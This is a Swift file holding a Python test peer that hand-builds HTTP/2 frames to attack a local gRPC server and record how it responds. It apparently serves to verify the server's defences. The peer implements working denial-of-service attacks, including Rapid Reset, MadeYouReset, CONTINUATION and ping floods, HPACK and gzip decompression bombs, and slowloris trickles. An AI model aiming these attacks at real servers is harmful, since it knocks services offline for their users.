/// The raw HTTP/2 peer the abuse tests run (Python, with the hpack package h2 brings): frames written by hand so
/// they can be as wrong as an attack needs, answers recorded as `OBSERVED key=value` lines.
/// Run as `python script <port> <case>`; each `WHICH == "..."` branch is one attack.
enum AbusePeerScript {
    static let source = #"""
import socket, struct, sys, time, gzip
import hpack

PORT = int(sys.argv[1])
WHICH = sys.argv[2]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
          "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
          "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
SETTINGS_INITIAL_WINDOW_SIZE = 4
SERVICE = "/grpc.testing.TestService/"


def observe(key, value):
    """One observation for the Swift side: `OBSERVED key=value`."""
    print("OBSERVED %s=%s" % (key, value), flush=True)


def error_name(code):
    return ERRORS[code] if code < len(ERRORS) else str(code)


def frame(kind, flags, stream, payload=b""):
    """A raw frame (RFC 9113 section 4.1); nothing is checked, so it can be as wrong as a test needs."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def grpc_message(body, compressed=False):
    return bytes([1 if compressed else 0]) + struct.pack(">I", len(body)) + body


def varint(n):
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out += bytes([byte | 0x80])
        else:
            return out + bytes([byte])


def streaming_output_request(sizes, interval_us=0):
    """grpc.testing.StreamingOutputCallRequest asking for responses of `sizes` (field 2: ResponseParameters)."""
    out = b""
    for size in sizes:
        parameters = b"\x08" + varint(size) + (b"\x10" + varint(interval_us) if interval_us else b"")
        out += b"\x12" + varint(len(parameters)) + parameters
    return out


def request_headers(method="EmptyCall", extra=()):
    return [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "localhost"),
            ("content-type", "application/grpc"), ("te", "trailers")] + list(extra)


class Peer:
    """A raw HTTP/2 client (frames by hand, HPACK from h2's hpack): sends what it is told, records the answers."""

    def __init__(self, preface=True, settings_pairs=(), ack_settings=True, open_windows=True):
        self.sock = socket.create_connection(("127.0.0.1", PORT), timeout=5)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        # closed: the server closed (EOF or reset on read); unwritable: a write failed (it may still be readable)
        self.buffer, self.block, self.closed, self.unwritable = b"", None, False, False
        self.ack_settings, self.open_windows = ack_settings, open_windows
        self.goaway, self.resets, self.headers, self.data_bytes, self.ended = None, {}, {}, {}, set()
        self.settings_seen = 0
        if preface:
            self.send(PREFACE + settings(*settings_pairs))

    def send(self, data):
        """False once the server has closed the connection."""
        if self.closed or self.unwritable:
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.unwritable = True
            return False

    def encode(self, headers):
        return self.encoder.encode(headers)

    def request(self, stream, method="EmptyCall", body=None, end=True, extra=()):
        """HEADERS (and a DATA frame carrying `body` when given) opening `stream`."""
        flags = END_HEADERS | (END_STREAM if end and body is None else 0)
        out = frame(HEADERS, flags, stream, self.encode(request_headers(method, extra)))
        if body is not None:
            out += frame(DATA, END_STREAM if end else 0, stream, body)
        return self.send(out)

    def status(self, stream):
        """grpc-status the server sent on `stream` (trailers or Trailers-Only), or None."""
        for block in self.headers.get(stream, []):
            if "grpc-status" in block:
                return block["grpc-status"]
        return None

    def read(self, until=lambda peer: False, seconds=5.0):
        """Reads and records frames until `until(self)`, the server closes, or `seconds` pass; True if `until`."""
        deadline = time.time() + seconds
        while True:
            if until(self):
                return True
            if self.closed:
                return False
            self.sock.settimeout(max(0.001, min(0.05, deadline - time.time())))
            try:
                chunk = self.sock.recv(1 << 16)
                if chunk:
                    self.buffer += chunk
                    self.parse()
                else:
                    self.closed = True
            except socket.timeout:
                pass
            except OSError:
                self.closed = True
            if time.time() >= deadline:
                return until(self)

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            self.handle(kind, flags, stream, payload)

    def handle(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self.settings_seen += 1
            if self.ack_settings:
                self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            if self.goaway is None:
                self.goaway = (error_name(code), last & 0x7FFFFFFF, payload[8:].decode("utf-8", "replace"))
        elif kind == RST_STREAM:
            self.resets[stream] = error_name(struct.unpack(">I", payload)[0])
        elif kind in (HEADERS, CONTINUATION):
            self.block = (self.block or b"") + payload
            if flags & END_HEADERS:
                self.headers.setdefault(stream, []).append(dict(self.decoder.decode(self.block)))
                self.block = None
            if flags & END_STREAM:
                self.ended.add(stream)
        elif kind == DATA:
            self.data_bytes[stream] = self.data_bytes.get(stream, 0) + len(payload)
            if flags & END_STREAM:
                self.ended.add(stream)
            if self.open_windows and payload:
                increment = struct.pack(">I", len(payload))
                self.send(frame(WINDOW_UPDATE, 0, 0, increment) + frame(WINDOW_UPDATE, 0, stream, increment))

    def report(self, prefix="", seconds=3.0):
        """Observes the GOAWAY (code and debug data) and whether the server closes the socket within `seconds`."""
        self.read(lambda peer: peer.closed, seconds)
        observe(prefix + "goaway", self.goaway[0] if self.goaway else "none")
        if self.goaway:
            observe(prefix + "goaway_debug", self.goaway[2].replace("\n", " "))
        observe(prefix + "closed", "yes" if self.closed else "no")


def flood(peer, unit, limit, seconds=5.0):
    """Sends `unit` up to `limit` times in batches of 50, stopping at the server's GOAWAY or close."""
    sent, deadline = 0, time.time() + seconds
    while sent < limit and time.time() < deadline and peer.goaway is None and not peer.closed and not peer.unwritable:
        if not peer.send(unit * 50):
            break
        sent += 50
        peer.read(seconds=0)
    observe("sent", sent)
    return sent


def served(peer, stream):
    """A normal EmptyCall on an existing connection: whether it gets grpc-status 0 (HPACK state intact)."""
    peer.request(stream, body=grpc_message(b""))
    peer.read(lambda p: p.status(stream) is not None or p.closed or stream in p.resets, 3)
    return peer.status(stream) == "0"


if WHICH == "well_behaved":
    # Not an attack: the bystander's normal figure is taken while this runs, so the interpreter's own start-up
    # and CPU, and a neighbour's frames on the same loop, are in the baseline as they are in every attack.
    # 500 valid EmptyCalls (1,000 frames, as many as a flood gets in before its GOAWAY), 25 calls per write,
    # each write's answers awaited.
    peer = Peer()
    stream, ok = 1, 0
    for _ in range(20):
        first, batch = stream, b""
        for _ in range(25):
            batch += frame(HEADERS, END_HEADERS, stream, peer.encode(request_headers()))
            batch += frame(DATA, END_STREAM, stream, grpc_message(b""))
            stream += 2
        if not peer.send(batch):
            break
        peer.read(lambda p: p.closed or all(p.status(s) is not None for s in range(first, stream, 2)), 5)
        ok += sum(1 for s in range(first, stream, 2) if peer.status(s) == "0")
    observe("calls_ok", ok)
    observe("goaway", peer.goaway[0] if peer.goaway else "none")

elif WHICH == "rapid_reset":
    # CVE-2023-44487: open a stream and reset it at once, over and over; no call ever holds a slot.
    peer = Peer()
    sent, stream = 0, 1
    while sent < 2000 and peer.goaway is None and not peer.closed and not peer.unwritable:
        batch = b""
        for _ in range(50):
            batch += frame(HEADERS, END_HEADERS, stream, peer.encode(request_headers("FullDuplexCall")))
            batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        if not peer.send(batch):
            break
        sent += 50
        peer.read(seconds=0)
    observe("sent", sent)
    peer.report()

elif WHICH == "made_you_reset":
    # CVE-2025-8671: valid calls the server must then reset itself (a WINDOW_UPDATE overflowing the stream's
    # window is a stream error, FLOW_CONTROL_ERROR), so no RST_STREAM ever comes from the client. Each batch
    # waits for the server's resets, so the streams never pile up past the concurrency limit.
    peer = Peer()
    sent, stream = 0, 1
    while sent < 2000 and peer.goaway is None and not peer.closed and not peer.unwritable:
        batch = b""
        for _ in range(20):
            batch += frame(HEADERS, END_HEADERS, stream, peer.encode(request_headers("FullDuplexCall")))
            batch += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", (1 << 31) - 1))
            stream += 2
        if not peer.send(batch):
            break
        sent += 20
        peer.read(lambda p: stream - 2 in p.resets or p.goaway is not None or p.closed, 2)
    observe("sent", sent)
    observe("stream_1", peer.resets.get(1, "none"))
    peer.report()

elif WHICH == "settings_flood":
    peer = Peer()
    flood(peer, settings(), 20000)
    peer.report()

elif WHICH == "ping_flood":
    peer = Peer()
    flood(peer, frame(PING, 0, 0, b"12345678"), 20000)
    peer.report()

elif WHICH == "empty_data_flood":
    peer = Peer()
    peer.request(1, "FullDuplexCall", end=False)
    flood(peer, frame(DATA, 0, 1), 20000)
    peer.report()

elif WHICH == "continuation_flood":
    # CVE-2024-27316 style: a header block that never ends (HEADERS, then CONTINUATIONs without END_HEADERS).
    peer = Peer()
    peer.read(lambda p: p.settings_seen > 0, 2)
    peer.send(frame(HEADERS, 0, 1, peer.encode(request_headers("EmptyCall"))))
    filler = hpack.Encoder()
    flood(peer, frame(CONTINUATION, 0, 1, filler.encode([("x-filler", "a" * 100)])), 20000)
    peer.report()

elif WHICH == "many_small_headers":
    # 2,000 tiny fields: about 80 KB of header list from 14 KB on the wire.
    peer = Peer()
    peer.read(lambda p: p.settings_seen > 0, 2)
    block = peer.encode(request_headers("EmptyCall", [("x-h%d" % i, "v") for i in range(2000)]))
    first, rest = block[:16384], block[16384:]
    out = frame(HEADERS, 0 if rest else END_HEADERS | END_STREAM, 1, first)
    while rest:
        piece, rest = rest[:16384], rest[16384:]
        out += frame(CONTINUATION, 0 if rest else END_HEADERS, 1, piece)
    peer.send(out)
    peer.read(lambda p: 1 in p.resets or p.status(1) is not None or p.closed, 3)
    observe("stream", peer.resets.get(1, "status " + str(peer.status(1))))
    observe("next_call_ok", "yes" if served(peer, 3) else "no")
    peer.report(seconds=0.5)

elif WHICH == "huge_single_header":
    # One 1 MiB field value: more than any header list we accept, and more than HPACK's decoder will buffer.
    peer = Peer()
    peer.read(lambda p: p.settings_seen > 0, 2)
    block = peer.encoder.encode(request_headers("EmptyCall", [("x-huge", "a" * (1 << 20))]), huffman=False)
    first, rest = block[:16384], block[16384:]
    out = frame(HEADERS, 0, 1, first)
    while rest:
        piece, rest = rest[:16384], rest[16384:]
        out += frame(CONTINUATION, 0 if rest else END_HEADERS, 1, piece)
    observe("sent_bytes", len(out))
    peer.send(out)
    peer.read(lambda p: 1 in p.resets or p.goaway is not None or p.closed, 3)
    observe("stream", peer.resets.get(1, "none"))
    peer.report()

elif WHICH == "indexed_header_bomb":
    # HPACK amplification: one 4 KB field enters the dynamic table, then 1,000 one-byte references to it,
    # about 4 MB of header list from 5 KB on the wire.
    peer = Peer()
    peer.read(lambda p: p.settings_seen > 0, 2)
    block = peer.encode(request_headers("EmptyCall", [("x-bomb", "b" * 4000)] * 1000))
    observe("wire_bytes", len(block))
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    peer.read(lambda p: 1 in p.resets or p.status(1) is not None or p.closed, 3)
    observe("stream", peer.resets.get(1, "status " + str(peer.status(1))))
    observe("next_call_ok", "yes" if served(peer, 3) else "no")
    peer.report(seconds=0.5)

elif WHICH == "table_size_overflow":
    # A dynamic table size update above the SETTINGS_HEADER_TABLE_SIZE the server advertised (4096).
    peer = Peer()
    peer.read(lambda p: p.settings_seen > 0, 2)
    update = bytes([0x3F]) + varint((1 << 20) - 31)  # RFC 7541 6.3: 001xxxxx, 5-bit prefix
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, update + peer.encode(request_headers())))
    peer.report()

elif WHICH == "window_never_opened":
    # Asks for 256 x 1 MiB of responses and never returns any flow-control window: the server may send
    # 64 KiB and must then hold the handler, not the bytes.
    peer = Peer(open_windows=False)
    peer.request(1, "StreamingOutputCall", grpc_message(streaming_output_request([1 << 20] * 256)))
    peer.read(seconds=2.0)
    observe("response_started", "yes" if 1 in peer.headers else "no")
    observe("data_bytes", peer.data_bytes.get(1, 0))
    observe("stream", peer.resets.get(1, "open" if 1 not in peer.ended else "ended"))
    observe("closed", "yes" if peer.closed else "no")

elif WHICH == "socket_never_read":
    # Opens every window wide and then stops reading the socket: the kernel buffers fill, and the server must
    # stop serializing (outbound cap) and suspend the handler's writes.
    peer = Peer(settings_pairs=[(SETTINGS_INITIAL_WINDOW_SIZE, (1 << 31) - 1)])
    peer.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 * 1024)
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
    peer.request(1, "StreamingOutputCall", grpc_message(streaming_output_request([1 << 20] * 256)))
    time.sleep(2.0)
    observe("stalled", "yes")

elif WHICH == "slowloris_preface":
    # The client preface one byte every 100 ms: the preface timeout must end it, however steady the trickle.
    sock = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    start, closed = time.time(), False
    sock.settimeout(0.1)
    for byte in PREFACE + settings():
        try:
            sock.sendall(bytes([byte]))
            while True:
                chunk = sock.recv(1 << 16)
                if not chunk:
                    closed = True
                    break
        except socket.timeout:
            pass
        except OSError:
            closed = True
        if closed:
            break
    observe("closed", "yes" if closed else "no")
    observe("closed_after_ms", int((time.time() - start) * 1000))

elif WHICH == "slowloris_headers":
    # A request header block one byte every 100 ms: HEADERS without END_HEADERS, then a CONTINUATION whose
    # payload trickles in.
    peer = Peer()
    peer.read(lambda p: p.settings_seen > 0, 2)
    block = peer.encode(request_headers("EmptyCall", [("x-slow", "s" * 200)]))
    start = time.time()
    peer.send(frame(HEADERS, 0, 1, block[:10]))
    rest = block[10:]
    peer.send(frame(CONTINUATION, END_HEADERS | END_STREAM, 1, rest)[:9])  # the frame header alone
    for byte in rest:
        if not peer.send(bytes([byte])) or peer.read(lambda p: p.closed or p.goaway is not None, 0.1):
            break
    observe("closed_after_ms", int((time.time() - start) * 1000))
    peer.report()

elif WHICH == "slowloris_frame_header":
    # A frame header one byte every 100 ms: no stream ever begins, so the idle timeout must end it.
    peer = Peer()
    peer.read(lambda p: p.settings_seen > 0, 2)
    start = time.time()
    for byte in frame(PING, 0, 0, b"12345678") * 10:
        if not peer.send(bytes([byte])) or peer.read(lambda p: p.closed, 0.1):
            break
    observe("closed_after_ms", int((time.time() - start) * 1000))
    peer.report()

elif WHICH == "max_connections":
    # Ten connections at once against maxConnections 3, one of which the well-behaved client holds.
    peers = [Peer() for _ in range(10)]
    for peer in peers:
        peer.read(lambda p: p.settings_seen > 0 or p.closed, 1)
    observe("accepted", sum(1 for p in peers if p.settings_seen > 0 and not p.closed))
    observe("closed_on_accept", sum(1 for p in peers if p.closed and p.settings_seen == 0))

elif WHICH == "too_many_streams":
    # 101 calls before acknowledging the server's SETTINGS (MAX_CONCURRENT_STREAMS 100): the extra one is
    # refused. Then, with the limit acknowledged, one more: a protocol error.
    peer = Peer(ack_settings=False)
    out = b""
    for i in range(101):
        out += frame(HEADERS, END_HEADERS, 1 + 2 * i, peer.encode(request_headers("FullDuplexCall")))
    peer.send(out)
    peer.read(lambda p: 201 in p.resets or p.closed, 3)
    observe("stream_201", peer.resets.get(201, "none"))
    observe("other_resets", len([s for s in peer.resets if s != 201]))
    peer.send(frame(SETTINGS, ACK, 0))
    peer.read(seconds=0.3)
    peer.send(frame(HEADERS, END_HEADERS, 203, peer.encode(request_headers("FullDuplexCall"))))
    peer.read(lambda p: 203 in p.resets or p.goaway is not None or p.closed, 3)
    observe("stream_203", peer.resets.get(203, "none"))
    peer.report()

elif WHICH == "length_prefix_4gib":
    peer = Peer()
    peer.request(1, "UnaryCall", b"\x00\xff\xff\xff\xff", end=False)
    peer.read(lambda p: p.status(1) is not None or p.closed, 3)
    observe("status", peer.status(1))
    observe("message", next((b.get("grpc-message") for b in peer.headers.get(1, []) if "grpc-status" in b), None))
    peer.read(lambda p: 1 in p.resets, 0.5)
    observe("stream", peer.resets.get(1, "none"))
    observe("closed", "yes" if peer.closed else "no")

elif WHICH == "message_over_limit":
    # 4 MiB + 1 announced, 64 KiB of it sent: refused from the prefix, without waiting for (or buffering) the rest.
    peer = Peer()
    peer.request(1, "UnaryCall", struct.pack(">BI", 0, 4 * 1024 * 1024 + 1) + b"\x00" * 16000, end=False)
    for _ in range(3):
        peer.send(frame(DATA, 0, 1, b"\x00" * 16384))
    peer.read(lambda p: p.status(1) is not None or p.closed, 3)
    observe("status", peer.status(1))
    # A gzip bomb: 64 MiB of zeros in about 64 KB, within the size limit until decompressed.
    bomb = gzip.compress(b"\x00" * (64 << 20))
    observe("bomb_bytes", len(bomb))
    peer.request(3, "UnaryCall", None, end=False, extra=[("grpc-encoding", "gzip")])
    body = grpc_message(bomb, compressed=True)
    while body:
        piece, body = body[:16384], body[16384:]
        peer.send(frame(DATA, 0 if body else END_STREAM, 3, piece))
    peer.read(lambda p: p.status(3) is not None or p.closed, 3)
    observe("bomb_status", peer.status(3))
    observe("closed", "yes" if peer.closed else "no")

elif WHICH == "data_on_stream_0":
    peer = Peer()
    peer.send(frame(DATA, 0, 0, b"\x00" * 8))
    peer.report()

elif WHICH == "headers_on_even_stream":
    peer = Peer()
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 2, peer.encode(request_headers())))
    peer.report()

elif WHICH == "window_update_zero":
    # On a stream: a stream error. On the connection: a connection error (RFC 9113 section 6.9).
    peer = Peer()
    peer.request(1, "FullDuplexCall", end=False)
    peer.send(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0)))
    peer.read(lambda p: 1 in p.resets or p.goaway is not None or p.closed, 3)
    observe("stream", peer.resets.get(1, "none"))
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))
    peer.report()

elif WHICH == "frame_too_large":
    # 16,385 bytes of PING-sized nonsense: over the default SETTINGS_MAX_FRAME_SIZE (16,384).
    peer = Peer()
    peer.send(frame(DATA, 0, 1, b"\x00" * 16385))
    peer.report()

elif WHICH == "bad_preface":
    sock = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    sock.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" + b"\x00" * 64)
    received, closed = b"", False
    sock.settimeout(3)
    try:
        while True:
            chunk = sock.recv(1 << 16)
            if not chunk:
                closed = True
                break
            received += chunk
    except socket.timeout:
        pass
    except OSError:
        closed = True
    # What came back: the server's SETTINGS, and a GOAWAY if it sent one.
    kinds, goaway = [], "none"
    while len(received) >= 9:
        length, kind = int.from_bytes(received[:3], "big"), received[3]
        if kind == GOAWAY:
            goaway = error_name(struct.unpack(">I", received[13:17])[0])
        kinds.append(kind)
        received = received[9 + length:]
    observe("goaway", goaway)
    observe("closed", "yes" if closed else "no")

elif WHICH == "data_after_end_stream":
    # DATA on a stream the client already half-closed, while the handler is still working on the response.
    peer = Peer()
    peer.request(1, "StreamingOutputCall", grpc_message(streaming_output_request([1], interval_us=1000000)))
    peer.read(lambda p: 1 in p.headers, 0.3)
    peer.send(frame(DATA, 0, 1, grpc_message(b"")))
    peer.read(lambda p: 1 in p.resets or p.goaway is not None or p.closed, 3)
    observe("stream", peer.resets.get(1, "none"))
    peer.report()

else:
    print("unknown case " + WHICH)
    sys.exit(2)
"""#
}
